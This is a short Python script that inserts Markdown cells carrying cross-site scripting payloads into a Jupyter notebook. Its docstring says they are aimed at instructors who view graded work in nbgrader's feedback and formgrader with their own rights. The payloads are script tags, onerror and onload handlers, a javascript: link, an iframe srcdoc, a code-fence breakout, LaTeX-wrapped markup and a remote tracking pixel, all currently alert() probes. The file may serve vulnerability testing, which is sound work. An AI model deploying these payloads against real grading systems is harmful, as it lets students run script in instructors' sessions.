"""Puts scripts, handlers and dangerous links into Markdown, for whoever reads the graded notebook.

Works on stock nbgrader: feedback and formgrader show Markdown as it is, with the instructor's rights.
Trace: <script>alert(1)</script>
"""

from nbformat.v4 import new_markdown_cell

LINES = (
    "<script>alert(1)</script>",
    "$$<img src=x onerror=alert(2)>$$",
    "[click](javascript:alert(3))",
    "<iframe srcdoc='<script>alert(4)</script>'></iframe>",
    "~~~~~~\n</code></pre><script>alert(5)</script>\n~~~~",
    "![](http://example.org/pixel.png)",
    "\\begin{align}</script><svg onload=alert(6)>\\end{align}",
)


def make(notebook):
    notebook.cells[1:1] = [new_markdown_cell(line) for line in LINES]
    return notebook
